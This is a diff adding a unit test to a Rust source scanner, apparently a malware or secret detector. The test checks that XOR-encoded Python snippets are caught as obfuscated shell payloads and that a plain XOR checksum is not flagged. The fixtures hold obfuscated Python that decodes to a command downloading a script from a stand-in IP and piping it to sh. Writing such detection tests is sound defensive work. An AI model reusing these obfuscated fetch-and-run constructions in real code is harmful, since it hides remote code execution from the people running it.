@@ -2193,6 +2193,41 @@ mod tests {
         assert!(other.contains(&rules::CRED_IN_REQUEST), "{other:?}");
     }
 
+    /// XOR with a literal key in the forms code uses, a honest XOR checksum, and a reversal.
+    #[test]
+    fn xor_forms_are_decoded_and_a_checksum_is_not_a_payload() {
+        let scan = |source: &str| -> Vec<&'static str> {
+            let mut sink = Sink::new("a.py", source).with_shell(crate::scan::shell::scan);
+            crate::scan::python::scan(source, 0, &mut sink);
+            sink.finish().0.iter().map(|f| f.rule).collect()
+        };
+        let forms = [
+            // A key cycled by index over base64-decoded bytes.
+            "import base64, os\nKEY = b'k3y'\nBLOB = base64.b64decode('CEYLBxNUGBMRH0cJURxWWQNKRQNXWgJKRQpWExMFS0AR')\nos.system(bytes(b ^ KEY[i % len(KEY)] for i, b in enumerate(BLOB)).decode())\n",
+            // zip with itertools.cycle.
+            "import base64, itertools, os\nBLOB = base64.b64decode('CEYLBxNUGBMRH0cJURxWWQNKRQNXWgJKRQpWExMFS0AR')\nos.system(bytes(a ^ b for a, b in zip(BLOB, itertools.cycle(b'k3y'))).decode())\n",
+            // A bytearray filled by a loop.
+            "import os\nout = bytearray()\nfor b in [73, 95, 88, 70, 10, 7, 89, 10, 66, 94, 94, 90, 16, 5, 5, 24, 26, 25, 4, 26, 4, 27, 27, 25, 4, 19, 5, 82, 10, 86, 10, 89, 66]:\n    out.append(b ^ 42)\nos.system(out.decode())\n",
+            // chr of each code, joined.
+            "import os\nos.system(''.join(map(lambda c: chr(c ^ 42), [73, 95, 88, 70, 10, 7, 89, 10, 66, 94, 94, 90, 16, 5, 5, 24, 26, 25, 4, 26, 4, 27, 27, 25, 4, 19, 5, 82, 10, 86, 10, 89, 66])))\n",
+        ];
+        for form in forms {
+            let rules = scan(form);
+            assert!(
+                rules.contains(&rules::EXEC_PIPE_TO_SHELL_RAW),
+                "{form}: {rules:?}"
+            );
+            assert!(
+                rules.contains(&rules::OBF_ENCODED_PAYLOAD),
+                "{form}: {rules:?}"
+            );
+        }
+        // A checksum XORs numbers too; what it computes is not text, and nothing is reported.
+        let checksum =
+            "import os\ncheck = 0\nfor b in [1, 2, 3, 4]:\n    check = check ^ b\nprint(check)\n";
+        assert!(!scan(checksum).contains(&rules::OBF_ENCODED_PAYLOAD));
+    }
+
     /// The work bound: helpers called from everywhere, loops nested deep and values that
     /// double at each statement stop at [`MAX_STEPS`] and stay fast.
     #[test]
